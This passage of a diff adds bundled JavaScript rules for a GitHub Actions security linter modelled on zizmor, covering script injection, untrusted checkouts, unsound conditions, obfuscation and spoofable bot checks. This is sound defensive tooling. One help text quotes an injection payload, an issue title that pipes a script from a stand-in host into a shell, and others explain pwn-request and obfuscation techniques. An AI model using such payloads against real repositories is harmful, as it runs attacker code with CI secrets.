+}
+const untrusted_input_in_script_rule = {
+    id: 'PG200',
+    name: 'untrusted-input-in-script',
+    level: 'error',
+    description: 'Attacker-controlled data (titles, bodies, head refs, commit messages, `github.head_ref`, …, or a step or job output that carries them) expanded with `${{ }}` in `run:`, `actions/github-script`\'s `script:` or another action input that is code.',
+    help: 'A `${{ }}` is pasted into the script before the shell (or JavaScript) runs, so an issue title such as `"; curl evil.sh | sh #` becomes code that runs with the job\'s token and secrets: script injection. Pass the value through `env:` (`env: { TITLE: ${{ github.event.issue.title }} }`) and use it as `"$TITLE"` (or `process.env.TITLE`), where it stays data. The untrusted inputs are those of actionlint and GitHub\'s security hardening guide and the free-text fields of zizmor\'s context list; the code inputs of actions are zizmor\'s (CodeQL\'s sinks: `actions/github-script` `script`, `azure/cli` `inlineScript`, `mikefarah/yq` `cmd`, …); a step output is untrusted when the step writes untrusted data to `$GITHUB_OUTPUT` under its name, or is a file or branch name of `tj-actions/changed-files` or `tj-actions/branch-names`; a job output (`needs.<job>.outputs.<name>`) when its value is untrusted input or such a step output.',
+    create(context) {
+        return {
+            step(step, owner, file) {
+                const sites = [];
+                const run = entryOf(step.token, 'run')?.value;
+                if (run)
+                    sites.push({ where: 'run:', token: run });
+                const repo = repoOf(step.uses?.value);
+                const with_ = entryOf(step.token, 'with')?.value;
+                for (const input of CODE_INPUTS.get(repo ?? '') ?? []) {
+                    const value = entryOf(with_, input)?.value;
+                    if (value)
+                        sites.push({ where: `${repo}'s ${input}:`, token: value });
+                }
+                const earlier = owner.steps.slice(0, step.index);
+                for (const { where, token } of sites) {
+                    for (const site of expressionSites(token)) {
+                        for (const chain of contextChains(site)) {
+                            const shown = chain.segments.map((s) => s.name).join('.');
+                            const path = untrusted(chain.segments) ?? untrustedObject(chain.segments, chain.expression);
+                            if (path) {
+                                context.report(file.file, chain.segments[0], `"${shown}" is untrusted input (${path}) expanded in ${where}, where it can inject code; pass it through env: and use the variable instead`);
+                                continue;
+                            }
+                            const [ctx, id, outputs, name] = chain.segments.map((s) => s.name);
+                            if (outputs !== 'outputs' || !name || name === '*')
+                                continue;
+                            let why;
+                            if (ctx === 'steps') {
+                                const source = earlier.find((s) => s.id?.value === id);
+                                const tainted = source && taintedOutput(source, name);
+                                why = tainted && `step "${id}": ${tainted}`;
+                            }
+                            else if (ctx === 'needs' && file.kind === 'workflow') {
+                                why = taintedJobOutput(file, id, name);
+                            }
+                            if (why)
+                                context.report(file.file, chain.segments[0], `"${shown}" carries untrusted input (${why}) expanded in ${where}, where it can inject code; pass it through env: and use the variable instead`);
+                        }
+                    }
+                }
+            }
+        };
+    }
+};
+/* harmony default export */ const untrusted_input_in_script = (untrusted_input_in_script_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/injection/untrusted-checkout.js
+/** PG203 untrusted-checkout: a privileged `pull_request_target` or `workflow_run` job checks out the untrusted head. */
+
+
+/** Expressions that name the code of the pull request or of the run that triggered `workflow_run`. */
+const HEAD = [
+    'github.event.pull_request.head.sha',
+    'github.event.pull_request.head.ref',
+    'github.event.pull_request.merge_commit_sha',
+    'github.head_ref',
+    'github.event.workflow_run.head_sha',
+    'github.event.workflow_run.head_branch'
+];
+const PRIVILEGED = ['pull_request_target', 'workflow_run'];
+const untrusted_checkout_rule = {
+    id: 'PG203',
+    name: 'untrusted-checkout',
+    level: 'error',
+    description: 'A `pull_request_target` or `workflow_run` workflow whose job checks out the untrusted head (`actions/checkout` with a `ref:` of the pull request head or `refs/pull/…/merge`).',
+    help: '`pull_request_target` and `workflow_run` run in the context of the base repository, with its secrets and a write token, precisely so that they can act on pull requests from forks. Checking out the head of the pull request there and then building, testing or even installing it runs the attacker\'s code with those privileges ("pwn request"). Use `pull_request` for anything that runs the contributed code, and keep the privileged workflow to trusted steps (labelling, commenting on results it downloads as data).',
+    create(context) {
+        return {
+            step(step, owner, file) {
+                if (file.kind !== 'workflow' || !('id' in owner))
+                    return;
+                const trigger = PRIVILEGED.find((t) => file.on.has(t));
+                if (!trigger || !/^actions\/checkout@/i.test(step.uses?.value ?? ''))
+                    return;
+                const ref = step.with.get('ref');
+                if (!ref)
+                    return;
+                let found;
+                for (const site of expressionSites(ref.value)) {
+                    for (const chain of contextChains(site)) {
+                        const path = chain.segments.map((s) => s.name.toLowerCase()).join('.');
+                        if (HEAD.some((h) => path === h || path.startsWith(`${h}.`)))
+                            found ??= { what: chain.segments.map((s) => s.name).join('.'), at: chain.segments[0] };
+                    }
+                }
+                const text = (0,dist/* isString */.Kg)(ref.value) ? ref.value.value : (0,dist/* isBasicExpression */.hR)(ref.value) ? ref.value.toDisplayString() : '';
+                if (!found && /refs\/pull\/[^/]+\/(merge|head)/.test(text)) {
+                    const r = ref.value.range;
+                    found = { what: 'refs/pull/…', at: { at: r ? { line: r.start.line, column: r.start.column } : ref.key.at } };
+                }
+                if (!found)
+                    return;
+                context.report(file.file, found.at, `job "${owner.id.value}" of a ${trigger} workflow checks out the untrusted head (${found.what}) with the base repository's secrets and write token; run contributed code under pull_request instead`);
+            }
+        };
+    }
+};
+/* harmony default export */ const untrusted_checkout = (untrusted_checkout_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/injection/unsound-condition.js
+
+
+/** Why an `if:` text is always true, or undefined when it is sound (zizmor's is_unsound_fenced_expansion). */
+function unsoundCondition(text) {
+    const fence = firstFence(text);
+    if (!fence || (fence.start === 0 && fence.end === text.length))
+        return undefined;
+    return describe(text.slice(0, fence.start) + text.slice(fence.end));
+}
+function describe(rest) {
+    if (/^\s*\n\s*$/.test(rest))
+        return 'the final newline the block scalar keeps (use |- or >-)';
+    return `the text outside \${{ }} (${JSON.stringify(rest.length > 40 ? `${rest.slice(0, 40)}…` : rest)})`;
+}
+/**
+ * A block scalar's value (`|`, `>`, with `-`/`+` chomping) from the source text of its lines;
+ * undefined when the token is not a block scalar. GitHub's parser keeps a block's raw lines as the
+ * source of an expression token, indentation and all.
+ */
+function blockValue(token, lines) {
+    const r = token.range;
+    const header = r ? /^([|>])([-+]?)\d*([-+]?)\s*(#.*)?$/.exec((lines[r.start.line - 1] ?? '').slice(r.start.column - 1)) : null;
+    if (!r || !header)
+        return undefined;
+    // The block's lines: those indented past its key's line (GitHub's range ends at the next key).
+    const keyIndent = /^[ -]*/.exec(lines[r.start.line - 1])[0].length;
+    const body = [];
+    for (let i = r.start.line; i < lines.length && i <= r.end.line; i++) {
+        if (lines[i].trim() && /^ */.exec(lines[i])[0].length <= keyIndent)
+            break;
+        body.push(lines[i]);
+    }
+    const indent = Math.min(...body.filter((l) => l.trim()).map((l) => /^ */.exec(l)[0].length));
+    const content = body.map((l) => l.slice(indent)).join(header[1] === '>' ? ' ' : '\n').replace(/\s+$/, '');
+    const chomp = header[2] || header[3];
+    return chomp === '-' ? content : `${content}\n`;
+}
+/**
+ * Why an `if:` value is always true: its decoded text holds a `${{ }}` and anything else. A
+ * value GitHub's parser left as a string (unknown contexts) is read as it is.
+ */
+function unsound(token, lines) {
+    if (!token)
+        return undefined;
+    if (!(0,dist/* isBasicExpression */.hR)(token)) {
+        const text = textOf(token);
+        return text === undefined ? undefined : unsoundCondition(text);
+    }
+    const block = blockValue(token, lines);
+    if (block !== undefined)
+        return unsoundCondition(block);
+    // A flow scalar: GitHub's parser made one expression of it; it is the value's only content
+    // when it is the one `${{ }}` the value holds.
+    const originals = token.originalExpressions;
+    if (!originals?.length || (originals.length === 1 && originals[0].expression === token.expression))
+        return undefined;
+    const source = token.source ?? '';
+    const text = /^(["']).*\1$/s.test(source) ? source.slice(1, -1) : source;
+    return unsoundCondition(text) ?? 'the text around its ${{ }}';
+}
+const unsound_condition_rule = {
+    id: 'PG220',
+    name: 'unsound-condition',
+    level: 'error',
+    description: 'An `if:` whose `${{ }}` is not its whole value (text around it, or a `|`/`>` block that keeps its final newline): the condition is a non-empty string, always true.',
+    help: 'When an `if:` holds a `${{ }}` and anything else, GitHub substitutes the expression into the text and tests the resulting string, which is never empty: `if: ${{ false }} && true` and `if: |` followed by `${{ cond }}` (the block keeps its newline) both always run the step. Write the condition bare (`if: a && b`) or as exactly one `${{ }}`; for a multi-line block use `|-` or `>-`. Same as zizmor\'s unsound-condition audit.',
+    create(context) {
+        // The lines of the file last read: split once a file, not once a condition.
+        let lines = { text: [] };
+        const check = (file, token, where) => {
+            const entry = entryOf(token, 'if');
+            if (!entry)
+                return;
+            if (lines.file !== file)
+                lines = { file, text: file.text.split('\n') };
+            const why = unsound(entry.value, lines.text);
+            // At the value, where actionlint puts its if-cond finding.
+            const start = entry.value.range?.start;
+            if (why)
+                context.report(file, start ? { at: { line: start.line, column: start.column } } : entry.key, `the if: of ${where} always evaluates to true: ${why} makes it a non-empty string; write the whole condition inside one \${{ }} or bare`);
+        };
+        return {
+            jobPre(job, workflow) {
+                check(workflow.file, job.token, `job "${job.id.value}"`);
+            },
+            step(step, _owner, file) {
+                const name = step.id?.value ?? step.name?.value;
+                check(file.file, step.token, name ? `step "${name}"` : `step ${step.index + 1}`);
+            }
+        };
+    }
+};
+/* harmony default export */ const unsound_condition = (unsound_condition_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/injection/obfuscation.js
+/** PG221 obfuscation: `uses:` paths with `.`, `..` or empty parts, constant expressions, and `with:` as one expression. */
+
+
+
+
+
+/** Functions zizmor evaluates when their arguments are constants (fromJSON left out, as zizmor does). */
+const PURE = new Set(['contains', 'startswith', 'endswith', 'format', 'tojson', 'join']);
+/** Whether an expression is a constant (zizmor's constant_reducible). */
+function reducible(e) {
+    if (e instanceof ast/* Literal */.uS)
+        return true;
+    if (e instanceof ast/* Binary */.yI)
+        return reducible(e.left) && reducible(e.right);
+    if (e instanceof ast/* Logical */.oD)
+        return e.args.every(reducible);
+    if (e instanceof ast/* Unary */._c)
+        return reducible(e.expr);
+    if (e instanceof ast/* Grouping */.aU)
+        return reducible(e.group);
+    if (e instanceof ast/* FunctionCall */.R6)
+        return PURE.has(e.functionName.lexeme.toLowerCase()) && e.args.every(reducible);
+    return false;
+}
+/** The largest constant sub-expressions that are not bare literals (zizmor's constant_reducible_subexprs). */
+function reducibleParts(e, out, depth = 0) {
+    if (depth > 200)
+        return;
+    if (!(e instanceof ast/* Literal */.uS) && reducible(e)) {
+        out.push(e);
+        return;
+    }
+    const next = (x) => reducibleParts(x, out, depth + 1);
+    if (e instanceof ast/* FunctionCall */.R6 || e instanceof ast/* Logical */.oD)
+        e.args.forEach(next);
+    else if (e instanceof ast/* Binary */.yI)
+        [e.left, e.right].forEach(next);
+    else if (e instanceof ast/* Unary */._c)
+        next(e.expr);
+    else if (e instanceof ast/* Grouping */.aU)
+        next(e.group);
+    else if (e instanceof ast/* IndexAccess */.p_)
+        [e.expr, e.index].forEach(next);
+}
+/** The lexer position where an expression starts (its leftmost token). */
+function startOf(e, depth = 0) {
+    if (depth > 200)
+        return undefined;
+    if (e instanceof ast/* Literal */.uS)
+        return e.token.range.start;
+    if (e instanceof ast/* FunctionCall */.R6)
+        return e.functionName.range.start;
+    if (e instanceof ast/* ContextAccess */.QC)
+        return e.name.range.start;
+    if (e instanceof ast/* Unary */._c)
+        return e.operator.range.start;
+    if (e instanceof ast/* Binary */.yI)
+        return startOf(e.left, depth + 1);
+    if (e instanceof ast/* Logical */.oD)
+        return e.args.length ? startOf(e.args[0], depth + 1) : e.operator.range.start;
+    if (e instanceof ast/* IndexAccess */.p_)
+        return startOf(e.expr, depth + 1);
+    if (e instanceof ast/* Grouping */.aU) {
+        const inner = startOf(e.group, depth + 1);
+        return inner && { line: inner.line, column: Math.max(0, inner.column - 1) };
+    }
+    return undefined;
+}
+/** Why a `uses:` path is obfuscated: `.`, `..` or empty components after owner/repo. */
+function obfuscatedUses(uses) {
+    if (uses.startsWith('./') || uses.startsWith('docker://') || uses.includes('${{'))
+        return [];
+    const at = uses.lastIndexOf('@');
+    const path = (at < 0 ? uses : uses.slice(0, at)).split('/');
+    const why = new Set();
+    for (const part of path.slice(2)) {
+        if (part === '.')
+            why.add('"."');
+        else if (part === '..')
+            why.add('".."');
+        else if (part === '')
+            why.add('an empty component');
+    }
+    return [...why];
+}
+/**
+ * Every `${{ }}` of a file, also those of strings GitHub's parser left as strings (an `if:`, or a
+ * value whose expression names an unknown context): those are read from the file's lines.
+ */
+function fencedSites(model) {
+    const sites = expressionSites(model.root);
+    const lines = model.file.text.split('\n');
+    for (const [, token, key] of template_token/* TemplateToken */.s.traverse(model.root)) {
+        if (token === key || !(0,dist/* isString */.Kg)(token) || typeof token.value !== 'string' || !token.value.includes('${{') || !token.range)
+            continue;
+        const { start, end } = token.range;
+        for (let line = start.line; line <= end.line && line <= lines.length; line++) {
+            const text = lines[line - 1];
+            const from = line === start.line ? start.column - 1 : 0;
+            const re = /\$\{\{(.*?)\}\}/g;
+            re.lastIndex = from;
+            for (let m = re.exec(text); m; m = re.exec(text))
+                sites.push({ text: m[1], at: { line, column: m.index + 4 } });
+        }
+    }
+    return sites;
+}
+const obfuscation_rule = {
+    id: 'PG221',
+    name: 'obfuscation',
+    level: 'note',
+    description: 'Obfuscated workflow features: `uses:` paths with `.`, `..` or empty components, `${{ }}` expressions that are constants, and `with:` given as one expression.',
+    help: '`uses: actions/checkout////@…` or `github/codeql-action/./init@…` run the same action as the plain path but defeat every pattern that matches `uses:` (pinning, allow and deny lists, reviewers\' eyes); `${{ format(\'{0}\', \'abc\') }}` or `${{ true || false }}` are constants dressed as expressions; `with: ${{ fromJSON(…) }}` hides the action\'s inputs from analysis. Write the normalized path, the constant\'s value, and the inputs one by one. Same as zizmor\'s obfuscation audit (its pedantic "computed index" check is left out).',
+    create(context) {
+        const checkFile = (model) => {
+            // A wholly constant if: is PG143 constant-if's finding; one fault, one finding.
+            const steps = model.kind === 'workflow' ? model.jobs.flatMap((j) => j.steps) : model.steps;
+            const ifLines = new Set();
+            for (const owner of [...(model.kind === 'workflow' ? model.jobs : []), ...steps]) {
+                const range = entryOf(owner.token, 'if')?.value.range;
+                for (let line = range?.start.line ?? 1; range && line <= range.end.line; line++)
+                    ifLines.add(line);
+            }
+            for (const site of fencedSites(model)) {
+                const parsed = parseSite(site);
+                if (!parsed)
+                    continue;
+                const parts = [];
+                // `${{ '${{ x }}' }}` is how a workflow writes a literal `${{`: an escape, not a disguise.
+                if (parsed.tree instanceof ast/* Literal */.uS && String(parsed.tree.token.value ?? '').includes('${{'))
+                    continue;
+                const whole = reducible(parsed.tree);
+                if (whole && ifLines.has(site.at.line))
+                    continue;
+                if (whole)
+                    parts.push(parsed.tree);
+                else
+                    reducibleParts(parsed.tree, parts);
+                for (const part of parts) {
+                    const start = startOf(part);
+                    const at = start ? parsed.toPos(start) : site.at;
+                    const what = whole ? `\${{ ${site.text.trim()} }} is a constant; write its value instead` : 'part of this expression is a constant; write its value instead';
+                    context.report(model.file, { at }, what);
+                }
+            }
+        };
+        return {
+            workflowPre: checkFile,
+            actionPre: checkFile,
+            step(step, _owner, file) {
+                const uses = entryOf(step.token, 'uses');
+                if (!uses || !step.uses)
+                    return;
+                const why = obfuscatedUses(step.uses.value.trim());
+                if (why.length)
+                    context.report(file.file, uses.key, `"${step.uses.value.trim()}" has ${why.join(' and ')} in its path; write the normalized path so that pinning and allow lists see the real action`);
+                const withEntry = entryOf(step.token, 'with');
+                if (withEntry && (0,dist/* isBasicExpression */.hR)(withEntry.value) && !step.uses.value.startsWith('./')) {
+                    context.report(file.file, withEntry.key, `with: is one expression, which hides the inputs given to "${step.uses.value.trim()}" from review and analysis; list the inputs one by one`);
+                }
+            }
+        };
+    }
+};
+/* harmony default export */ const obfuscation = (obfuscation_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/injection/expr-tree.js
+/**
+ * Expression trees for the rules that judge what an expression does, not only which contexts it
+ * names (zizmor's bot-conditions, unsound-contains, overprovisioned-secrets, unredacted-secrets):
+ * the parsed tree of an expression site, where each node starts in the file, and the context path a
+ * node reads (`github['ACTOR']` → `github.actor`).
+ */
+
+
+
+
+const expr_tree_CONTEXTS = ['github', 'env', 'vars', 'job', 'jobs', 'steps', 'runner', 'secrets', 'strategy', 'matrix', 'needs', 'inputs'];
+/** The tree of an expression; undefined when it does not parse (the syntax rules report that). */
+function parseTree(text) {
+    try {
+        return new expressions_dist/* Parser */.iX(new expressions_dist/* Lexer */.JG(text).lex().tokens, expr_tree_CONTEXTS, []).parse();
+    }
+    catch {
+        return undefined;
+    }
+}
+/** A position of the expression's lexer (0-based line and column within it) in the file. */
+function filePos(site, p) {
+    return p.line === 0 ? { line: site.at.line, column: site.at.column + p.column } : { line: site.at.line + p.line, column: p.column + 1 };
+}
+/** Where a node of the tree starts, in the lexer's coordinates; undefined for a bare `*`. */
+function expr_tree_startOf(e) {
+    if (e instanceof ast/* Literal */.uS)
+        return e.token.range.start;
+    if (e instanceof ast/* ContextAccess */.QC)
+        return e.name.range.start;
+    if (e instanceof ast/* FunctionCall */.R6)
+        return e.functionName.range.start;
+    if (e instanceof ast/* IndexAccess */.p_)
+        return expr_tree_startOf(e.expr);
+    if (e instanceof ast/* Binary */.yI)
+        return expr_tree_startOf(e.left);
+    if (e instanceof ast/* Logical */.oD)
+        return e.args[0] ? expr_tree_startOf(e.args[0]) : e.operator.range.start;
+    if (e instanceof ast/* Unary */._c)
+        return e.operator.range.start;
+    if (e instanceof ast/* Grouping */.aU)
+        return expr_tree_startOf(e.group);
+    return undefined;
+}
+/** The children of a node (a grouping's content, a call's arguments, both sides of an operator). */
+function childrenOf(e) {
+    if (e instanceof ast/* FunctionCall */.R6 || e instanceof ast/* Logical */.oD)
+        return e.args;
+    if (e instanceof ast/* Binary */.yI)
+        return [e.left, e.right];
+    if (e instanceof ast/* Unary */._c)
+        return [e.expr];
+    if (e instanceof ast/* Grouping */.aU)
+        return [e.group];
+    if (e instanceof ast/* IndexAccess */.p_)
+        return [e.expr, e.index];
+    return [];
+}
+/** Strips groupings: `(a)` is `a`. */
+function ungroup(e) {
+    let cur = e;
+    while (cur instanceof ast/* Grouping */.aU)
+        cur = cur.group;
+    return cur;
+}
+/** True for a context read: `github.actor`, `github['actor']`, `secrets[x]`, `steps.*.outputs`. */
+function isContextRead(e) {
+    let cur = ungroup(e);
+    while (cur instanceof ast/* IndexAccess */.p_)
+        cur = cur.expr;
+    return cur instanceof ast/* ContextAccess */.QC;
+}
+/**
+ * The lower-case dotted path a context read names (`github['ACTOR']` → `github.actor`), `*` for a
+ * filter; undefined past a computed index (`secrets[matrix.name]`) or for anything else.
+ */
+function contextPath(e) {
+    const parts = [];
+    let cur = ungroup(e);
+    while (cur instanceof ast/* IndexAccess */.p_) {
+        const index = cur.index;
+        if (index instanceof ast/* Literal */.uS)
+            parts.unshift(String(index.token.value ?? index.token.lexeme).toLowerCase());
+        else if (index.constructor.name === 'Star')
+            parts.unshift('*');
+        else
+            return undefined;
+        cur = cur.expr;
+    }
+    if (!(cur instanceof ast/* ContextAccess */.QC))
+        return undefined;
+    parts.unshift(cur.name.lexeme.toLowerCase());
+    return parts.join('.');
+}
+/** The lower-case name of a called function, or undefined when `e` is not a call. */
+function callName(e) {
+    return e instanceof ast/* FunctionCall */.R6 ? e.functionName.lexeme.toLowerCase() : undefined;
+}
+/** A context read as written, indices as dots (`github['actor']` → `github.actor`); `…` past a computed index. */
+function contextText(e) {
+    const parts = [];
+    let cur = ungroup(e);
+    while (cur instanceof ast/* IndexAccess */.p_) {
+        const index = cur.index;
+        parts.unshift(index instanceof ast/* Literal */.uS ? String(index.token.value ?? index.token.lexeme) : index.constructor.name === 'Star' ? '*' : '…');
+        cur = cur.expr;
+    }
+    if (cur instanceof ast/* ContextAccess */.QC)
+        parts.unshift(cur.name.lexeme);
+    return parts.join('.');
+}
+/** The key of `name:` in a mapping, positioned; undefined when the mapping has none. */
+function keyNode(token, name) {
+    if (!token || !(0,dist/* isMapping */.pi)(token))
+        return undefined;
+    for (const pair of token) {
+        if ((0,dist/* isString */.Kg)(pair.key) && pair.key.value === name) {
+            const r = pair.key.range;
+            return { value: name, at: r ? { line: r.start.line, column: r.start.column } : { line: 1, column: 1 } };
+        }
+    }
+    return undefined;
+}
+/** The value of `name:` in a mapping. */
+function expr_tree_valueOf(token, name) {
+    if (!token || !(0,dist/* isMapping */.pi)(token))
+        return undefined;
+    for (const pair of token)
+        if ((0,dist/* isString */.Kg)(pair.key) && pair.key.value === name)
+            return pair.value;
+    return undefined;
+}
+/** A token's position as a node. */
+function expr_tree_nodeOf(token) {
+    const r = token.range;
+    return { at: r ? { line: r.start.line, column: r.start.column } : { line: 1, column: 1 } };
+}
+/** Each `${{ }}` under a token that parses, with its tree. */
+function* parsedSites(root) {
+    for (const site of expressionSites(root)) {
+        const tree = parseTree(site.text);
+        if (tree)
+            yield { site, tree };
+    }
+}
+/** The condition of an `if:` (bare or in `${{ }}`), parsed, with where it starts. */
+function parsedCondition(token) {
+    if (!token)
+        return undefined;
+    for (const site of expressionSites(token, true)) {
+        const tree = parseTree(site.text);
+        return tree ? { site, tree } : undefined;
+    }
+    return undefined;
+}
+/** The conditions of a job: its own `if:` and each step's, with the `if` key of each. */
+function* jobConditions(job) {
+    const owners = [job.token, ...job.steps.map((s) => s.token)];
+    for (const owner of owners) {
+        const key = keyNode(owner, 'if');
+        const cond = key && parsedCondition(expr_tree_valueOf(owner, 'if'));
+        if (key && cond)
+            yield { key, ...cond };
+    }
+}
+const expr_tree_linesOf = new WeakMap();
+/** Where the `${{` of an expression site starts (zizmor reports the whole fenced expression). */
+function fenceStart(file, site) {
+    let lines = expr_tree_linesOf.get(file);
+    if (!lines)
+        expr_tree_linesOf.set(file, (lines = file.text.split('\n')));
+    const line = lines[site.at.line - 1] ?? '';
+    const i = line.lastIndexOf('${{', site.at.column - 1);
+    return { at: i >= 0 ? { line: site.at.line, column: i + 1 } : site.at };
+}
+/**
+ * Hooks that read every `${{ }}` of a workflow or action file (zizmor's raw audits) and report
+ * `count(tree)` findings at each one's `${{`, with `message(text)`.
+ */
+function perFencedExpression(context, count, message) {
+    const scan = (file, root) => {
+        for (const { site, tree } of parsedSites(root)) {
+            for (let i = count(tree); i > 0; i--)
+                context.report(file, fenceStart(file, site), message(`\${{ ${site.text.trim()} }}`));
+        }
+    };
+    return {
+        workflowPre: (workflow) => scan(workflow.file, workflow.root),
+        actionPre: (action) => scan(action.file, action.root)
+    };
+}
+/** How many nodes of a tree `match` (not looking inside a node that matches). */
+function countMatches(e, match) {
+    const node = ungroup(e);
+    if (match(node))
+        return 1;
+    let n = 0;
+    for (const c of childrenOf(node))
+        n += countMatches(c, match);
+    return n;
+}
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/injection/dangerous-triggers.js
+
+const TRIGGERS = {
+    pull_request_target: 'runs with the base repository\'s secrets and a write token on every pull request, forks included',
+    workflow_run: 'runs with the repository\'s secrets and a write token after workflows that pull requests from forks can trigger'
+};
+const dangerous_triggers_rule = {
+    id: 'PG206',
+    name: 'dangerous-triggers',
+    level: 'warning',
+    description: 'A workflow triggered by `pull_request_target` or `workflow_run`, privileged triggers that are almost always used insecurely (zizmor\'s dangerous-triggers).',
+    help: '`pull_request_target` and `workflow_run` run in the context of the base repository, with its secrets and a token that can write, yet they are started by pull requests from anyone. Whatever such a workflow reads from the pull request (its code, branch names, titles, artifacts of the triggering run) is attacker-controlled. Prefer `pull_request`, which runs forks without secrets; if the privilege is needed, keep the job to trusted steps and treat every input as data. PG203 untrusted-checkout reports the worst case, checking out the pull request\'s head. A workflow whose only job has a single `actions/labeler` step is not reported (the use these triggers were made for).',
+    create(context) {
+        return {
+            workflowPre(workflow) {
+                const on = keyNode(workflow.root, 'on');
+                if (!on)
+                    return;
+                const job = workflow.jobs.length === 1 ? workflow.jobs[0] : undefined;
+                const labeler = !!job && !job.uses && job.steps.length === 1 && /^actions\/labeler(@|$)/i.test(job.steps[0].uses?.value ?? '');
+                for (const [name, why] of Object.entries(TRIGGERS)) {
+                    if (!workflow.on.has(name) || (name === 'pull_request_target' && labeler))
+                        continue;
+                    context.report(workflow.file, on, `on: ${name} ${why}; use pull_request where possible, or keep this workflow to trusted steps that treat the pull request as data`);
+                }
+            }
+        };
+    }
+};
+/* harmony default export */ const dangerous_triggers = (dangerous_triggers_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/injection/bot-conditions.js
+/** PG207 bot-conditions: `if: github.actor == 'dependabot[bot]'`, a check anyone can pass. */
+
+
+const ACTOR_NAMES = ['github.actor', 'github.triggering_actor', 'github.event.pull_request.sender.login'];
+const ACTOR_IDS = ['github.actor_id', 'github.event.pull_request.sender.id'];
+/** Bot ids that have no `[bot]` suffix to recognize them by: dependabot (and its integration), dependabot-preview, renovate. */
+const BOT_IDS = ['29110', '49699333', '27856297', '29139614'];
+/** The event's own user, who a contributor cannot swap for a bot, by trigger (zizmor's fix). */
+const EVENT_USER = {
+    issue_comment: 'github.event.comment.user',
+    discussion_comment: 'github.event.comment.user',
+    pull_request_review: 'github.event.review.user',
+    pull_request_review_comment: 'github.event.comment.user',
+    issues: 'github.event.issue.user',
+    discussion: 'github.event.discussion.user',
+    pull_request: 'github.event.pull_request.user',
+    pull_request_target: 'github.event.pull_request.user',
+    release: 'github.event.release.author',
+    milestone: 'github.event.milestone.creator'
+};
+/** What to check instead: the only trigger's user, or the pull request's author. */
+function safeActor(on, actorPath) {
+    const only = on.size === 1 ? [...on.keys()][0] : undefined;
+    const user = (only && EVENT_USER[only]) ?? 'github.event.pull_request.user';
+    return `${user}.${ACTOR_IDS.includes(actorPath) ? 'id' : 'login'}`;
+}
+function literalText(e) {
+    return e instanceof ast/* Literal */.uS ? String(e.token.value ?? e.token.lexeme) : undefined;
+}
+/** A bot check `actor == '…[bot]'` (or a bot id) among both sides of `==`. */
+function botCheck(eq) {
+    const [l, r] = [ungroup(eq.left), ungroup(eq.right)];
+    const actor = isContextRead(l) ? l : isContextRead(r) ? r : undefined;
+    const lit = literalText(l) ?? literalText(r);
+    if (!actor || lit === undefined)
+        return undefined;
+    const path = contextPath(actor) ?? '';
+    if (ACTOR_NAMES.includes(path) && lit.endsWith('[bot]'))
+        return { eq, actor };
+    if (ACTOR_IDS.includes(path) && BOT_IDS.includes(lit))
+        return { eq, actor };
+    return undefined;
+}
+/**
+ * zizmor's walk: the first bot check of a condition, and whether it dominates (decides the whole
+ * condition: reached through `||` and `==` only, not through `&&`, `!` or a call's argument).
+ */
+function walk(e, dominating) {
+    const node = ungroup(e);
+    if (node instanceof ast/* Logical */.oD && node.operator.lexeme === '||') {
+        let hit;
+        for (const a of node.args)
+            hit ??= walk(a, true)[0];
+        return [hit, true];
+    }
+    if (node instanceof ast/* Binary */.yI && node.operator.lexeme === '==') {
+        const [l, r] = [ungroup(node.left), ungroup(node.right)];
+        if (isContextRead(l) || isContextRead(r)) {
+            if (literalText(l) !== undefined || literalText(r) !== undefined)
+                return [botCheck(node), true];
+        }
+        else
+            return [undefined, true];
+        return [walk(node.left, true)[0] ?? walk(node.right, true)[0], true];
+    }
+    if (node instanceof ast/* Logical */.oD || node instanceof ast/* Binary */.yI) {
+        let hit;
+        for (const a of childrenOf(node))
+            hit ??= walk(a, false)[0];
+        return [hit, false];
+    }
+    if (node instanceof ast/* Unary */._c)
+        return walk(node.expr, false);
+    const children = childrenOf(node);
+    if (children.length === 0)
+        return [undefined, dominating];
+    let hit;
+    for (const c of children)
+        hit ??= walk(c, false)[0];
+    return [hit, false];
+}
+const bot_conditions_rule = {
+    id: 'PG207',
+    name: 'bot-conditions',
+    level: 'error',
+    description: 'A job or step condition that trusts `github.actor` (or `triggering_actor`, `actor_id`) to be a bot such as `dependabot[bot]` (zizmor\'s bot-conditions).',
+    help: '`github.actor` is whoever caused the latest event of the run, not who wrote the code: a contributor can make a bot the actor (by re-running a job after dependabot updated its branch, or by a comment that makes the bot push), so `if: github.actor == \'dependabot[bot]\'` can be passed by an attacker under `pull_request_target` and similar triggers. Check who opened the pull request instead (`github.event.pull_request.user.login`), or the event\'s own user field. A check that does not decide the whole condition (joined with `&&`) is reported as a warning.',
+    create(context) {
+        return {
+            jobPre(job, workflow) {
+                if (job.uses)
+                    return;
+                for (const { site, tree } of jobConditions(job)) {
+                    const [hit, dominating] = walk(tree, true);
+                    if (!hit)
+                        continue;
+                    const start = expr_tree_startOf(hit.eq);
+                    const at = start ? filePos(site, start) : site.at;
+                    const actor = contextText(hit.actor);
+                    const instead = safeActor(workflow.on, contextPath(hit.actor) ?? '');
+                    context.report(workflow.file, { at }, `condition "${actor} == …" is a spoofable bot check: the actor is whoever caused the latest event, which a contributor can arrange to be the bot; check ${instead} instead${dominating ? '' : ' (it decides the condition only together with other terms)'}`, dominating ? undefined : 'warning');
+                }
+            }
+        };
+    }
+};
+/* harmony default export */ const bot_conditions = (bot_conditions_rule);
+
+;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/injection/unsound-contains.js
+/** PG208 unsound-contains: `contains('main,develop', github.ref_name)` matches substrings an attacker picks. */
+
+
+/** Contexts a contributor can set to any text (zizmor's list). */
+const CONTROLLABLE = ['env', 'github.actor', 'github.base_ref', 'github.head_ref', 'github.ref', 'github.ref_name', 'github.sha', 'github.triggering_actor', 'inputs'];
+/** The contexts tested with `contains('<string>', <context>)` in an expression. */
+function unsound_contains_unsound(e, out) {
+    const node = ungroup(e);
+    if (node instanceof ast/* FunctionCall */.R6 && node.functionName.lexeme.toLowerCase() === 'contains' && node.args.length === 2) {
+        const [hay, needle] = node.args.map(ungroup);
+        const isString = hay instanceof ast/* Literal */.uS && typeof hay.token.value === 'string';
+        if (isString && isContextRead(needle)) {
+            out.push(needle);
+            return out;
+        }
+    }
